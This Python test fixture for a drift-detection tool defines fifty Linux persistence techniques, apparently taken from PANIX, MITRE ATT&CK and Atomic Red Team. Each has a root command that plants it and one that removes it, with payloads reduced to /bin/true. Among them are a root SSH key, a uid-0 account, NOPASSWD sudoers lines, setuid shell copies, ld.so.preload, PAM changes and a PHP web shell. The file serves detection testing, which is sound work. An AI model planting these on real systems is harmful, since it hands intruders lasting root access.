"""Ways to stay on a host after it was broken into, fifty of them: each planted by a shell command, and undone by one.

They are other people's: the modules of PANIX, the techniques of MITRE ATT&CK for Linux, the tests of Atomic Red Team,
and the posts of pberba, HADESS and Elastic Security Labs on persistence. What they would run is `/bin/true` or nothing,
so that a host is none the worse for it. `docs/ways-to-stay.md` lists them, and says which of them drift cannot see.
"""

from __future__ import annotations

import shlex
from dataclasses import dataclass

from tests.integration.mutations.change import KEPT

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGyEcPTacAAZq77B3Ulk2ToRvSZREr26Nehpt0s1RMVh stays"
HASH = "$6$stays$PHe0KnTcyTzR3xUnXVhBAzMrhrGsTq4mXmPc0Jd3bAGMxJTuLeIVXXJcVU8zW1jR5tBPLyIwbYZbCvvbdGb1S."
PORT = 31337


@dataclass(frozen=True)
class Way:
    """A way to stay.

    Attributes:
        name: what it is.
        source: where it is described.
        plants, undoes: shell commands, run as root.
        named: what drift must name of it, in one finding; empty for what it cannot see.
    """

    name: str
    source: str
    plants: str
    undoes: str
    named: tuple[str, ...] = ()


def written(path: str, text: str, *, mode: str = "644", made: bool = False) -> tuple[str, str]:
    """Commands that write a new file, and take it away again, and the directories that were made for it if any were."""
    at = shlex.quote(path)
    put = f"printf '%s\\n' {shlex.quote(text)} > {at} && chmod {mode} {at}"
    empty = f"; rmdir -p --ignore-fail-on-non-empty $(dirname {at})" if made else ""
    return f"[ ! -e {at} ] && mkdir -p $(dirname {at}) && {put}", f"rm -f {at}{empty}"


def kept(path: str, change: str) -> tuple[str, str]:
    """Commands that change a file, and put it back as it was."""
    copy = f"{KEPT}{path}"
    return f"mkdir -p $(dirname {copy}) && cp -a {path} {copy} && {{ {change}; }}", f"cp -a {copy} {path} && rm {copy}"


def added(path: str, line: str) -> tuple[str, str]:
    """Commands that add a line to a file, and put it back as it was."""
    return kept(path, f"printf '%s\\n' {shlex.quote(line)} >> {path}")


def _way(name: str, source: str, commands: tuple[str, str], *named: str) -> Way:
    return Way(name, source, *commands, named)


ACCOUNTS = ("/etc/passwd", "/etc/shadow", "/etc/group", "/etc/gshadow")
PACKAGE = (
    "d=$(mktemp -d) && mkdir -p $d/DEBIAN && printf '%s\\n' 'Package: stays-package' 'Version: 1' 'Architecture: all' "
    "'Maintainer: nobody <nobody@localhost>' 'Description: stays' > $d/DEBIAN/control && chmod 755 $d && "
    "printf '#!/bin/sh\\ntrue\\n' > $d/DEBIAN/postinst && chmod 755 $d/DEBIAN/postinst && "
    "dpkg-deb -b $d /tmp/stays.deb > /dev/null && dpkg -i /tmp/stays.deb > /dev/null && rm -rf $d /tmp/stays.deb"
)
LISTENING = (
    "import socket, time; s = socket.socket(); s.setsockopt(1, 2, 1); "
    f"s.bind(('', {PORT})); s.listen(); time.sleep(9999)"
)
IN_MEMORY = "echo $$ > /run/stays.pid; exec python3 -c 'import time; time.sleep(9999)'"

WAYS = (
    # who may log in, and as whom
    _way(
        "a key of root's own",
        "PANIX --ssh-key; T1098.004",
        written("/root/.ssh/authorized_keys", KEY, mode="600", made=True),
        "/root/.ssh/authorized_keys",
    ),
    _way(
        "a key at the home of a system account, whose shell looks like nologin",
        "PANIX --backdoor-system-user; T1098.004",
        (
            (
                "mkdir -p /var/backups/.ssh && "
                f"printf '%s\\n' '{KEY}' > /var/backups/.ssh/authorized_keys && cp /bin/dash '/usr/sbin/nologin ' && "
                f"mkdir -p {KEPT} && cp -a /etc/passwd {KEPT}/passwd && "
                "sed -i '/^backup:/s|nologin$|nologin |' /etc/passwd"
            ),
            f"cp -a {KEPT}/passwd /etc/passwd; rm -rf /var/backups/.ssh '/usr/sbin/nologin '",
        ),
        "/var/backups/.ssh/authorized_keys",
    ),
    _way(
        "a key beside a person's own",
        "PANIX --authorized-keys; T1098.004",
        added("/etc/ssh/authorized_keys/anna-lindqvist", KEY),
        "/etc/ssh/authorized_keys/anna-lindqvist",
    ),
    _way(
        "sshd asks a program which keys are good",
        "pberba, part 2 (AuthorizedKeysCommand); T1556",
        written(
            "/etc/ssh/sshd_config.d/50-stays.conf", "AuthorizedKeysCommand /bin/true\nAuthorizedKeysCommandUser nobody"
        ),
        "/etc/ssh/sshd_config.d/50-stays.conf",
    ),
    _way(
        "a script that runs at every log-in by SSH",
        "Elastic, primer (sshrc); T1546.004",
        written("/etc/ssh/sshrc", "true"),
        "/etc/ssh/sshrc",
    ),
    _way(
        "a second account with uid 0",
        "PANIX --backdoor-user; Atomic T1136.001-2",
        (
            "useradd --no-create-home --non-unique --uid 0 --gid 0 --shell /bin/bash stays0",
            "userdel --force stays0 2> /dev/null; sed -i '/^stays0:/d' /etc/passwd /etc/shadow",
        ),
        "stays0",
    ),
    _way(
        "a new account with a password",
        "PANIX --create-user; Atomic T1136.001-1",
        (f"useradd --no-create-home --shell /bin/bash --password '{HASH}' stays1", "userdel stays1"),
        "stays1",
    ),
    _way(
        "a password for root",
        "PANIX --password-change; T1098",
        kept("/etc/shadow", f"usermod --password '{HASH}' root"),
        "root",
        "password",
    ),
    _way(
        "a member of sudo",
        "Atomic T1098 (additional local groups); T1098.007",
        ("usermod --append --groups sudo www-data", "gpasswd --delete www-data sudo"),
        "www-data",
        "sudo",
    ),
    _way(
        "a member of samdrift's own group of admins",
        "Atomic T1098 (additional local groups); T1098.007",
        ("usermod --append --groups samdrift-admins nobody", "gpasswd --delete nobody samdrift-admins"),
        "members of samdrift-admins",
    ),
    _way(
        "a member of disk, who reads every file",
        "HackTricks and LinPEAS (interesting groups); T1098.007",
        ("usermod --append --groups disk nobody", "gpasswd --delete nobody disk"),
        "nobody",
        "disk",
    ),
    # what lets somebody become root
    _way(
        "a line of sudoers",
        "PANIX --sudoers; Atomic T1548.003",
        added("/etc/sudoers", "nobody ALL=(ALL:ALL) NOPASSWD: ALL"),
        "nobody ALL=(ALL:ALL) NOPASSWD: ALL",
        "/etc/sudoers",
    ),
    _way(
        "a directory that sudoers includes",
        "sudoers(5); T1548.003",
        (
            (
                "mkdir -p /etc/stays.d && echo 'games ALL=(ALL:ALL) NOPASSWD: ALL' > /etc/stays.d/x && "
                "chmod 440 /etc/stays.d/x && echo '@includedir /etc/stays.d' >> /etc/sudoers"
            ),
            "sed -i '/stays.d/d' /etc/sudoers; rm -rf /etc/stays.d",
        ),
        "games ALL=(ALL:ALL) NOPASSWD: ALL",
        "/etc/stays.d/x",
    ),
    _way(
        "a copy of a shell with setuid",
        "Atomic T1548.001; HADESS (SUID)",
        (
            "cp /bin/dash /var/lib/misc/.stays && chmod 4755 /var/lib/misc/.stays",
            "rm -f /var/lib/misc/.stays",
        ),
        "/var/lib/misc/.stays",
    ),
    _way(
        "a program of a package made setuid",
        "PANIX --suid; T1548.001",
        ("chmod u+s /usr/bin/find", "chmod u-s /usr/bin/find"),
        "/usr/bin/find",
    ),
    _way(
        "a program with capabilities",
        "PANIX --cap; T1548",
        (
            "cp /usr/bin/perl /var/lib/misc/stays-perl && setcap cap_setuid+ep /var/lib/misc/stays-perl",
            "rm -f /var/lib/misc/stays-perl",
        ),
        "/var/lib/misc/stays-perl",
    ),
    _way(
        "a rule of polkit's",
        "PANIX --polkit; T1548",
        written(
            "/etc/polkit-1/rules.d/99-stays.rules",
            "polkit.addRule(function(action, subject) { return polkit.Result.YES; });",
            made=True,
        ),
        "/etc/polkit-1/rules.d/99-stays.rules",
    ),
    _way(
        "PAM runs a program",
        "PANIX --pam --pam-exec; T1556.003",
        added("/etc/pam.d/common-auth", "auth optional pam_exec.so quiet /bin/true"),
        "/etc/pam.d/common-auth",
    ),
    _way(
        "a module of PAM's that is nobody's",
        "PANIX --pam --module; T1556.003",
        (
            "cp /usr/lib/x86_64-linux-gnu/security/pam_permit.so /usr/lib/x86_64-linux-gnu/security/pam_stays.so",
            "rm -f /usr/lib/x86_64-linux-gnu/security/pam_stays.so",
        ),
        "/usr/lib/x86_64-linux-gnu/security/pam_stays.so",
    ),
    # what runs by the clock
    _way(
        "a job in cron.d",
        "PANIX --cron; Atomic T1053.003",
        written("/etc/cron.d/stays", "* * * * * root /bin/true"),
        "/etc/cron.d/stays",
    ),
    _way(
        "root's crontab",
        "Atomic T1053.003-1; T1053.003",
        written("/var/spool/cron/crontabs/root", "* * * * * /bin/true", mode="600", made=True),
        "/var/spool/cron/crontabs/root",
    ),
    _way(
        "a job of at's",
        "PANIX --at; Atomic T1053.002",
        written("/var/spool/cron/atjobs/a0000101c3d5a0", "#!/bin/sh\ntrue", mode="700", made=True),
        "/var/spool/cron/atjobs/a0000101c3d5a0",
    ),
    _way(
        "a timer with its service",
        "PANIX --systemd; Atomic T1053.006",
        (
            (
                "printf '[Service]\\nType=oneshot\\nExecStart=/bin/true\\n' > /etc/systemd/system/stays-t.service && "
                "printf '[Timer]\\nOnCalendar=daily\\n[Install]\\nWantedBy=timers.target\\n' "
                "> /etc/systemd/system/stays-t.timer && "
                "systemctl -q enable --now stays-t.timer"
            ),
            "systemctl -q disable --now stays-t.timer; rm -f /etc/systemd/system/stays-t.*; systemctl daemon-reload",
        ),
        "stays-t.timer",
    ),
    # what runs at boot
    _way(
        "a service",
        "PANIX --systemd; Atomic T1543.002",
        (
            (
                "printf '[Service]\\nType=oneshot\\nExecStart=/bin/true\\n[Install]\\nWantedBy=multi-user.target\\n' "
                "> /etc/systemd/system/stays.service && systemctl -q enable stays.service"
            ),
            "systemctl -q disable stays.service; rm -f /etc/systemd/system/stays.service; systemctl daemon-reload",
        ),
        "stays.service",
    ),
    _way(
        "a drop-in of a service that a package brings",
        "pberba, part 3; T1543.002",
        written(
            "/etc/systemd/system/ssh.service.d/stays.conf",
            "[Service]\nExecStartPost=/bin/true",
            made=True,
        ),
        "/etc/systemd/system/ssh.service.d/stays.conf",
    ),
    _way(
        "a generator of systemd's",
        "PANIX --generator; pberba, part 5; T1543.002",
        written(
            "/usr/local/lib/systemd/system-generators/stays",
            "#!/bin/sh\ntrue",
            mode="755",
            made=True,
        ),
        "/usr/local/lib/systemd/system-generators/stays",
    ),
    _way(
        "a unit of a person's own, that runs without a log-in",
        "PANIX --systemd (user); T1543.002",
        (
            (
                "install -d -o anna-lindqvist /home/anna-lindqvist/.config/systemd/user && "
                "printf '[Service]\\nExecStart=/bin/true\\n' > /home/anna-lindqvist/.config/systemd/user/stays.service "
                "&& "
                "mkdir -p /var/lib/systemd/linger && touch /var/lib/systemd/linger/anna-lindqvist"
            ),
            "rm -rf /home/anna-lindqvist/.config /var/lib/systemd/linger/anna-lindqvist",
        ),
        "/home/anna-lindqvist/.config/systemd/user/stays.service",
    ),
    _way(
        "rc.local",
        "PANIX --rc-local; Atomic T1037.004",
        written("/etc/rc.local", "#!/bin/sh\ntrue", mode="755"),
        "/etc/rc.local",
    ),
    _way(
        "a script of init.d, with its links",
        "PANIX --initd; T1037",
        (
            (
                "printf '#!/bin/sh\\ntrue\\n' > /etc/init.d/stays && chmod 755 /etc/init.d/stays && "
                "ln -s ../init.d/stays /etc/rc2.d/S99stays"
            ),
            "rm -f /etc/init.d/stays /etc/rc2.d/S99stays",
        ),
        "/etc/init.d/stays",
    ),
    _way(
        "a command line of the kernel's by GRUB",
        "PANIX --grub; Elastic, grand finale; T1542",
        written("/etc/default/grub.d/99-stays.cfg", 'GRUB_CMDLINE_LINUX="init=/bin/true"', made=True),
        "/etc/default/grub.d/99-stays.cfg",
    ),
    _way(
        "a hook of initramfs-tools",
        "PANIX --initramfs; Elastic, grand finale; T1542",
        written(
            "/etc/initramfs-tools/scripts/init-premount/stays",
            "#!/bin/sh\ntrue",
            mode="755",
            made=True,
        ),
        "/etc/initramfs-tools/scripts/init-premount/stays",
    ),
    _way(
        "a module that the kernel is to load at boot",
        "PANIX --lkm; Atomic T1547.006",
        written("/etc/modules-load.d/stays.conf", "stays"),
        "/etc/modules-load.d/stays.conf",
    ),
    # what runs when something else does
    _way(
        "a library that is loaded into every program",
        "PANIX --ld-preload; Atomic T1574.006",
        (
            (
                "cp /usr/lib/x86_64-linux-gnu/libdl.so.2 /usr/local/lib/libstays.so && "
                "echo /usr/local/lib/libstays.so > /etc/ld.so.preload"
            ),
            "rm -f /etc/ld.so.preload /usr/local/lib/libstays.so",
        ),
        "/etc/ld.so.preload",
    ),
    _way(
        "a script of every log-in shell",
        "PANIX --shell-profile; Atomic T1546.004",
        written("/etc/profile.d/stays.sh", "true"),
        "/etc/profile.d/stays.sh",
    ),
    _way(
        "a line of root's .bashrc",
        "Atomic T1546.004-1; HADESS (shell configuration)",
        added("/root/.bashrc", "true"),
        "/root/.bashrc",
    ),
    _way(
        "apt runs a program",
        "PANIX --package-manager; T1546.016",
        written("/etc/apt/apt.conf.d/99stays", 'APT::Update::Pre-Invoke {"true";};'),
        "/etc/apt/apt.conf.d/99stays",
    ),
    _way(
        "udev runs a program",
        "PANIX --udev; T1546.017",
        written("/etc/udev/rules.d/99-stays.rules", 'ACTION=="add", RUN+="/bin/true"'),
        "/etc/udev/rules.d/99-stays.rules",
    ),
    _way(
        "the message of the day is made by a program",
        "PANIX --motd; T1037",
        written("/etc/update-motd.d/99-stays", "#!/bin/sh\ntrue", mode="755"),
        "/etc/update-motd.d/99-stays",
    ),
    _way(
        "a program that starts whenever a network comes up",
        "PANIX --network-manager; Elastic, grand finale; T1546",
        written("/etc/NetworkManager/dispatcher.d/99-stays", "#!/bin/sh\ntrue", mode="755", made=True),
        "/etc/NetworkManager/dispatcher.d/99-stays",
    ),
    _way(
        "a service that D-Bus starts",
        "PANIX --dbus; T1543",
        written(
            "/usr/share/dbus-1/system-services/org.stays.service",
            "[D-BUS Service]\nName=org.stays\nExec=/bin/true\nUser=root",
        ),
        "/usr/share/dbus-1/system-services/org.stays.service",
    ),
    _way(
        "a program of every desktop",
        "PANIX --xdg; Atomic T1547.013; T1547.013",
        written("/etc/xdg/autostart/stays.desktop", "[Desktop Entry]\nType=Application\nExec=/bin/true"),
        "/etc/xdg/autostart/stays.desktop",
    ),
    _way(
        "code that every Python starts with",
        "MITRE T1546.018 (Python startup hooks)",
        written("/usr/lib/python3/dist-packages/stays.pth", "import os"),
        "/usr/lib/python3/dist-packages/stays.pth",
    ),
    _way(
        "a script of logrotate's",
        "HackTricks (logrotate); T1053",
        written("/etc/logrotate.d/stays", "/var/log/stays {\n  postrotate\n    true\n  endscript\n}"),
        "/etc/logrotate.d/stays",
    ),
    _way(
        "a web shell",
        "PANIX --web-shell; Atomic T1505.003; T1505.003",
        written("/var/www/html/stays.php", "<?php system($_GET['x']); ?>", made=True),
        "/var/www/html/stays.php",
    ),
    _way(
        "a package that nobody asked for",
        "PANIX --malicious-package; T1546.016",
        (PACKAGE, "dpkg --purge stays-package > /dev/null"),
        "stays-package",
    ),
    _way(
        "another program in the place of a package's",
        "PANIX --system-binary; T1554",
        kept("/usr/bin/who", "printf '#!/bin/sh\\ntrue\\n' > /usr/bin/who"),
        "/usr/bin/who",
    ),
    # the network
    _way(
        "a shell that listens",
        "PANIX --bind-shell; T1059",
        (
            f"systemd-run -q --unit stays-listens python3 -c {shlex.quote(LISTENING)}",
            "systemctl stop stays-listens.service",
        ),
        str(PORT),
    ),
    _way(
        "a table of nftables beside the declared one",
        "Atomic T1562.004; T1562.004",
        (
            "nft 'add table inet stays_table; add chain inet stays_table in { type filter hook input priority -300; }'",
            "nft delete table inet stays_table",
        ),
        "stays_table",
    ),
    _way(
        "another nameserver",
        "MITRE T1584.002, T1557 (adversary in the middle)",
        added("/etc/resolv.conf", "nameserver 192.0.2.53"),
        "/etc/resolv.conf",
    ),
    _way(
        "another address for a name",
        "MITRE T1565, T1557 (adversary in the middle)",
        added("/etc/hosts", "192.0.2.80 updates.example"),
        "/etc/hosts",
    ),
    _way(
        "a certificate authority of one's own",
        "Atomic T1553.004-1 (install root certificate)",
        written("/usr/local/share/ca-certificates/stays.crt", "stays"),
        "/usr/local/share/ca-certificates/stays.crt",
    ),
    # what drift cannot see
    _way(
        "a program in memory alone, that calls home",
        "PANIX --reverse-shell; T1059.004",
        (
            f"setsid -f sh -c {shlex.quote(IN_MEMORY)}",
            "kill $(cat /run/stays.pid); rm /run/stays.pid",
        ),
    ),
    _way(
        "a hook of a repository at somebody's home",
        "PANIX --git; T1546",
        (
            (
                "mkdir -p /home/anna-lindqvist/work/.git/hooks && "
                "printf '#!/bin/sh\\ntrue\\n' > /home/anna-lindqvist/work/.git/hooks/pre-commit && "
                "chmod 755 /home/anna-lindqvist/work/.git/hooks/pre-commit"
            ),
            "rm -rf /home/anna-lindqvist/work",
        ),
    ),
)
